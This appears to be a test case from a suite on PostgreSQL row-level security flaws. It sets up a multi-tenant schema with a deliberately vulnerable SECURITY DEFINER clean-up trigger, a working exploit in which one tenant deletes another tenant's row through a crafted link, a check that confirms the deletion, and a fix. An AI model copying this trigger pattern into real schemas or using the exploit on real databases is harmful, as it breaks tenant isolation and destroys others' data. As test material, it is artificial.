-- What: A trigger with its owner's rights tidies up: it deletes the item that a deleted link named, whose ever it is.
-- Class: function_definer
-- Object: public.tidy()
-- Exploit: A makes a link of its own to tenant B's item, and deletes it.
-- Source: clean-up of orphans by triggers
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
create table links (id bigint generated always as identity primary key, tenant_id uuid not null, item_id bigint, title text);
alter table links enable row level security;
alter table links force row level security;
create policy tenant on links using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, delete on links to app_user;
-- @superuser
create function tidy() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  delete from public.items where id = old.item_id;
  return old;
end $$;
create trigger tidy after delete on links for each row execute function tidy();
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function tidy() security invoker;
-- @control
select from items where tenant_id = :'A';
-- @exploit
insert into links (tenant_id, item_id) values (:'A', 2);
delete from links where item_id = 2;
-- @look
select 1 where not exists (select from items where tenant_id = :'B');
